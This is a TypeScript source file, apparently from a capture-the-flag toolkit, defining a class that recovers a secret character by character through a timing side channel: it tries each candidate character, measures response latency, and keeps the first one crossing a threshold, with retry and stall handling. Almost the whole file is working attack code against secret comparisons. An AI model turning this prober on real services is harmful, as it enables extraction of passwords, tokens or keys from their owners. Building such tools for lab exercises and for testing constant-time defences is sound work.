import type {
  CandidateMeasurement,
  DiscoveredPosition,
  ProbeStatus,
} from "@shared/schema";
import { normalizeCharset } from "./charset";
import type { CandidateMeasurer, ProbeObserver } from "./types";

export interface PrefixProberOptions {
  /** Candidate characters, tried in order. */
  charset: string;
  /** A candidate whose latency strictly exceeds this is accepted. */
  thresholdMs: number;
  /** Upper bound on the length of the recovered secret, seed included. */
  maxLength: number;
  /** Stalled positions re-probed over the whole run before giving up. */
  stallRetries?: number;
  /** Size of the slowest-candidates listing on a stall. */
  topN?: number;
  observer?: ProbeObserver;
}

export interface ProbeState {
  readonly knownPrefix: string;
  readonly status: ProbeStatus;
  readonly positions: readonly DiscoveredPosition[];
  readonly stallsUsed: number;
  /** Slowest candidates of the most recent stall, descending. */
  readonly lastStall: readonly CandidateMeasurement[];
}

export type CharacterDiscovery =
  | {
      kind: "found";
      character: string;
      measurement: CandidateMeasurement;
      candidates: CandidateMeasurement[];
    }
  | {
      kind: "stalled";
      ranked: CandidateMeasurement[];
      candidates: CandidateMeasurement[];
    };

export function initialProbeState(seed: string): ProbeState {
  return {
    knownPrefix: seed,
    status: "extending",
    positions: [],
    stallsUsed: 0,
    lastStall: [],
  };
}

/**
 * Slowest `topN` measurements, descending. Ties keep their charset order.
 */
export function rankSlowest(candidates: readonly CandidateMeasurement[], topN: number): CandidateMeasurement[] {
  return [...candidates].sort((a, b) => b.latencyMs - a.latencyMs).slice(0, topN);
}

function lengthOf(value: string): number {
  return Array.from(value).length;
}

/**
 * Recovers a secret one character at a time through a latency oracle.
 *
 * At each position the charset is walked in order and the first candidate
 * whose latency exceeds the threshold is taken; the rest of the charset is
 * not tried. A position where nothing crosses the threshold stalls the run.
 *
 * @example
 * ```typescript
 * const prober = new PrefixProber(sampler, {
 *   charset: DEFAULT_CHARSET,
 *   thresholdMs: 170,
 *   maxLength: 64,
 * });
 * const { knownPrefix } = await prober.run("flag{");
 * ```
 */
export class PrefixProber {
  private readonly charset: string[];
  private readonly thresholdMs: number;
  private readonly maxLength: number;
  private readonly stallRetries: number;
  private readonly topN: number;
  private readonly observer: ProbeObserver;

  constructor(
    private readonly measurer: CandidateMeasurer,
    options: PrefixProberOptions,
  ) {
    this.charset = normalizeCharset(options.charset);
    this.thresholdMs = options.thresholdMs;
    this.maxLength = options.maxLength;
    this.stallRetries = options.stallRetries ?? 0;
    this.topN = options.topN ?? 5;
    this.observer = options.observer ?? {};
  }

  async discoverNextCharacter(knownPrefix: string): Promise<CharacterDiscovery> {
    const candidates: CandidateMeasurement[] = [];

    for (const character of this.charset) {
      const candidate = knownPrefix + character;
      const { latencyMs, samples, failures } = await this.measurer.measure(candidate);
      const measurement: CandidateMeasurement = { candidate, character, latencyMs, samples, failures };

      candidates.push(measurement);
      this.observer.onMeasurement?.(measurement);

      if (latencyMs > this.thresholdMs) {
        return { kind: "found", character, measurement, candidates };
      }
    }

    return {
      kind: "stalled",
      ranked: rankSlowest(candidates, this.topN),
      candidates,
    };
  }

  /**
   * Advances the state by one position. Terminal states are returned as-is.
   */
  async step(state: ProbeState): Promise<ProbeState> {
    if (state.status !== "extending") {
      return state;
    }

    if (lengthOf(state.knownPrefix) >= this.maxLength) {
      this.observer.onLimitReached?.(state.knownPrefix, this.maxLength);
      return { ...state, status: "limit_reached" };
    }

    const discovery = await this.discoverNextCharacter(state.knownPrefix);

    if (discovery.kind === "found") {
      const knownPrefix = state.knownPrefix + discovery.character;
      const position: DiscoveredPosition = {
        index: lengthOf(state.knownPrefix),
        character: discovery.character,
        latencyMs: discovery.measurement.latencyMs,
        candidatesTried: discovery.candidates.length,
      };
      this.observer.onCharacterFound?.(discovery.character, knownPrefix, discovery.measurement);
      return {
        ...state,
        knownPrefix,
        positions: [...state.positions, position],
        lastStall: [],
      };
    }

    const retriesLeft = this.stallRetries - state.stallsUsed;
    if (retriesLeft > 0) {
      this.observer.onStall?.(state.knownPrefix, discovery.ranked, { retrying: true, retriesLeft: retriesLeft - 1 });
      return { ...state, stallsUsed: state.stallsUsed + 1, lastStall: discovery.ranked };
    }

    this.observer.onStall?.(state.knownPrefix, discovery.ranked, { retrying: false, retriesLeft: 0 });
    return { ...state, status: "stalled", lastStall: discovery.ranked };
  }

  async run(seed = ""): Promise<ProbeState> {
    let state = initialProbeState(seed);
    while (state.status === "extending") {
      state = await this.step(state);
    }
    return state;
  }
}
